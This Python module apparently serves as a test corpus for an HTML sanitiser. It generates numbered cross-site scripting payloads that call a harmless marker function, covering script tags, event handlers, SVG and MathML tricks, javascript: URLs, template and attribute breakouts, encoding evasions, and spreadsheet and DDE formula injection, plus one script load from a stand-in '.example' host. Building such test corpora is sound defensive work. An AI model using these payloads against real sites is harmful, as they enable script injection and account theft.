"""Texts that try to become code in a reader's browser: families of our own writing, each bearing its number.

One that runs says so: it opens a dialog with its number, leaves an element or an attribute that bears the mark, or
asks the site for an address that bears it.
"""

from collections.abc import Iterator, Sequence
from itertools import product

MARK = "touche"
"""A function that no page has: were it called, the page would complain. And an address that no page asks for."""
SCRIPTS = (
    "<script>§</script>",
    "<SCRIPT>§</SCRIPT>",
    "<script >§</script >",
    "<script/x>§</script>",
    "<script\n>§</script>",
    "<script src=¤></script>",
    "<script src=data:,§></script>",
    "<script type=module>§</script>",
    "<scr<script>ipt>§</scr</script>ipt>",
    "<<script>§//<</script>",
    "<script>§",
    "<script>/*¶*/§</script>",
    "<!--><script>§</script-->",
    "<![CDATA[<script>§</script>]]>",
    "<?xml?><script>§</script>",
    "<script>§<!--",
    '<script type="text/template">§</script>',
    "<script async src=//¶.example/°></script>",
)
"""§ stands for what runs, ¤ for an address asked for, ° for the number, ¶ for the mark."""

TAGS = (
    "img src=¤",
    "svg",
    "body",
    "video src=¤",
    "input autofocus",
    "details open",
    "iframe src=¤",
    "x-¶ tabindex=1",
    "audio src=¤",
    "select autofocus",
    "object data=¤",
)
HANDLERS = ("onerror=§", 'onload="§"', "onfocus='§'", "ontoggle=§", "onpointerenter=§", "/onanimationstart=§")
HANDLING = tuple(f"<{tag} {handler}>" for tag, handler in product(TAGS, HANDLERS))

DRAWINGS = (
    "<svg><script>§</script></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:§>",
    "<svg><a href=javascript:§><text y=9>°</text></a></svg>",
    "<svg><use href=data:image/svg+xml,§#x></svg>",
    "<svg><foreignObject><img src=¤ onerror=§></foreignObject></svg>",
    "<math><mtext><img src=¤ onerror=§></mtext></math>",
    "<math href=javascript:§>°</math>",
    "<svg><image href=¤ onerror=§>",
    "<svg><style>@import'¤'</style></svg>",
    "<svg onload=§//",
    "<svg><title><img src=¤>",
)

ADDRESSES = (
    "<a href=javascript:§>°</a>",
    "<a href=JaVaScRiPt:§>°</a>",
    "<a href='java\tscript:§'>°</a>",
    "<a href='&#106;avascript:§'>°</a>",
    "<a href='jav&Tab;ascript:§'>°</a>",
    "<a href=vbscript:§>°</a>",
    "<a href=data:text/html,§>°</a>",
    "<form action=javascript:§><button>°</button></form>",
    "<button formaction=javascript:§>°</button>",
    "<object data=javascript:§></object>",
    "<embed src=data:text/html,§>",
    "<iframe src=javascript:§></iframe>",
    "<iframe srcdoc='<script>§</script>'></iframe>",
    "<base href=javascript:§//>",
    "<meta http-equiv=refresh content='0;url=¤'>",
    "<link rel=stylesheet href=¤>",
    "[°](javascript:§)",
    "![°](¤)",
    "[°]: javascript:§",
    "<javascript:§>",
    "[°](data:text/html,§)",
    "javascript:§",
    "javascript://%0a§",
)

TEMPLATES = (
    "{{ request.user.email }} §",
    "{% csrf_token %} §",
    "{% debug %} §",
    "{% include 'actors/account.html' %} §",
    "{{ §|safe }}",
    "{{constructor.constructor('§')()}}",
    "${§}",
    "#{§}",
    "<%= § %>",
    "<% § %>",
    "[[§]]",
    "{{{§}}}",
    "{{= § }}",
    "@{§}",
    "*{§}",
    "{%25 § %25}",
    "{% autoescape off %}<img src=¤ onerror=§>{% endautoescape %}",
    "`${§}`",
)

BREAKOUTS = (
    '"><img src=¤ onerror=§>',
    "'><img src=¤ onerror=§>",
    "`><img src=¤ onerror=§>",
    '" onfocus=§ autofocus x="',
    "' onfocus=§ autofocus x='",
    "</textarea><img src=¤ onerror=§>",
    "</title><img src=¤ onerror=§>",
    "</style><img src=¤ onerror=§>",
    "</script><script>§</script>",
    "</noscript><img src=¤ onerror=§>",
    "</option></select><img src=¤ onerror=§>",
    "--><img src=¤ onerror=§>",
    "]]><img src=¤ onerror=§>",
    "</template><img src=¤ onerror=§>",
    "</iframe><img src=¤ onerror=§>",
    "</xmp><img src=¤ onerror=§>",
    "*/§//",
    "';§//",
    '";§//',
    "\\';§//",
    "'-§-'",
    '"-§-"',
    "</a></p></blockquote><img src=¤ onerror=§>",
    "<plaintext>§",
    "<!-- §",
)

ENTITIES = (
    "&lt;script&gt;§&lt;/script&gt;",
    "&#60;script&#62;§&#60;/script&#62;",
    "&#x3c;img src=¤ onerror=§&#x3e;",
    "&amp;lt;script&amp;gt;§",
    "%3Cscript%3E§%3C/script%3E",
    "\\u003cscript\\u003e§",
    "\\x3cscript\\x3e§",
    "+ADw-script+AD4-§+ADw-/script+AD4-",
    "&lt<script>§</script>",
    "&#0000060script>§",
    "\uff1cscript\uff1e§\uff1c/script\uff1e",
    "‹script›§‹/script›",
    "<\u200bscript>§</\u200bscript>",
    "<script\u00ad>§</script>",
    "\ufeff<script>§</script>",
    "<ſcript>§</ſcript>",
    "<img\u00a0src=¤\u00a0onerror=§>",
    "<img\u2028src=¤ onerror=§>",
    "§\u2028§\u2029§",
    '=HYPERLINK("javascript:§")',
    "@SUM(1)*cmd|§",
    "__proto__ §",
    '{"constructor": "§"}',
)

STYLES = (
    "<style>@import '¤';</style>",
    "<style>*{background:url(¤)}</style>",
    "<p style=background:url(¤)>°</p>",
    "<p style='width:expression(§)'>°</p>",
    "<div style=position:fixed;inset:0 ¶>°</div>",
    "<style>¶{x:y}</style>",
    "</style><style>@font-face{src:url(¤)}</style>",
    "<link rel=preload as=script href=¤>",
    "<style><img src=¤ onerror=§>",
)

MUTATIONS = (
    '<noscript><p title="</noscript><img src=¤ onerror=§>">',
    "<math><mtext><table><mglyph><style><!--</style><img src=¤>",
    '<svg></p><style><a id="</style><img src=¤ onerror=§>">',
    "<form><math><mtext></form><form><mglyph><svg><img src=¤>",
    '<a title="`<img src=¤ onerror=§>`">°</a>',
    "<table><td><svg><p><style><img src=¤ onerror=§>",
    '<xmp><p title="</xmp><img src=¤ onerror=§>">',
    "<select><iframe><img src=¤ onerror=§>",
    '<template><p title="</template><img src=¤ onerror=§>">',
    "<ruby><rt><img src=¤ onerror=§>",
    "<b ¶><i ¶></b>°</i>",
)

FAMILIES = (
    SCRIPTS,
    HANDLING,
    DRAWINGS,
    ADDRESSES,
    TEMPLATES,
    BREAKOUTS,
    ENTITIES,
    STYLES,
    MUTATIONS,
)

BROKEN = (
    b"<script>\xc0\xbcscript\xc0\xbe</script>",
    b"\xff\xfe<img src=x>",
    b"<\x00script>touche(0)</script>",
    b"\xed\xa0\x80<svg onload=touche(0)>",
    b"\x1b[31m<script>",
    b"\xe2\x80\xae<tpircs>touche(0)",
    b"\xf4\x90\x80\x80",
    b"\x08<img src=x onerror=touche(0)>",
)
"""Bytes that are not text, or that change the order in which it is read: each is refused, in a sentence."""


def payloads() -> tuple[str, ...]:
    """Return them all, each with its number."""
    patterns = [pattern for family in FAMILIES for pattern in family]
    return tuple(numbered(pattern, number) for number, pattern in enumerate(patterns))


def numbered(pattern: str, number: int) -> str:
    written = pattern if "§" in pattern or "¤" in pattern or "°" in pattern else f"{pattern} °"
    filled = written.replace("§", f"{MARK}(°)").replace("¤", f"/{MARK}/°")
    return filled.replace("°", str(number)).replace("¶", f"{MARK}-{number}")


def packed(texts: Sequence[str], longest: int) -> Iterator[str]:
    """Put as many in one field as it takes, a space between; one that is too long by itself is left out."""
    held = ""
    for text in texts:
        if held and len(held) + 1 + len(text) > longest:
            yield held
            held = ""
        held = f"{held} {text}".strip() if len(text) <= longest else held
    yield held
